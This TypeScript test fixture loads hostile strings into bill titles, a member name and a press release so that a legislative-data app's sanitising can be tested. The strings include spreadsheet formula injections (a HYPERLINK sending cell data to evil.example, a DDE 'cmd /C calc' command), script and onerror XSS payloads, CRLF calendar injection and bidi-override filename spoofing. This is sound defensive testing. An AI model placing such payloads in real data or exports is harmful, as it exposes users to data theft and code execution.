import type { DataSource } from 'typeorm'
import { Member } from '../../src/entities/member'
import { ingestRelease } from '../../src/ingest/release'
import { loadSeeds } from '../../src/ingest/seeds'
import { seedsWith } from './edited-seeds'
import { LOADED_AT } from './seeded-database'

/** Texts that try to be more than text, each the title of a bill. */
export const HOSTILE_TITLES: Record<string, string> = {
  's1733-113': '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  's1738-113': '<script>alert(1)</script>]]><img src=x onerror=alert(2)>',
  's178-114': 'Act \u202egnp.exe\u202c of \u2067abc\u2069 \u200f2014',
  's166-114': `Long ${'ü, “x” '.repeat(1_500)}Act`,
  'hr3610-113': 'Act\r\nBEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT; a, b \\ c',
  'hr3530-113': ' \t+SUM(1,2)\u0008\u000b\ufffe',
  'hr159-114': '@import, "quoted" & <b>bold</b>',
  'hr181-114': '-2+3',
}

export const HOSTILE_NAME = '=cmd|\u202e"/C calc"!A0 <b>'

/** Loads the seeds with hostile titles, a hostile name of a member, and a release that repeats them. */
export async function loadHostileWorld(db: DataSource): Promise<void> {
  const edits = Object.entries(HOSTILE_TITLES).map(([billId, title]) => [
    billId,
    (bill: { titles: { title: string }[] }) => {
      for (const one of bill.titles) one.title = title
    },
  ])
  const options = { clock: () => LOADED_AT, dryRun: false }
  await loadSeeds(db, seedsWith(Object.fromEntries(edits)), options)
  await db.getRepository(Member).update({ bioguideId: 'H001069' }, { fullName: HOSTILE_NAME })
  const text = `=1+1 <script>alert(3)</script> \u202e ${'x'.repeat(10_000)}\n\nSenator Amy Klobuchar introduced S. 1733, the <b>=Act</b>.`
  const facts = {
    url: null,
    publishers: [],
    publishedOn: '2014-02-01',
    title: '+title <i>\u202e',
    note: null,
  }
  await ingestRelease(db, text, facts, options)
}
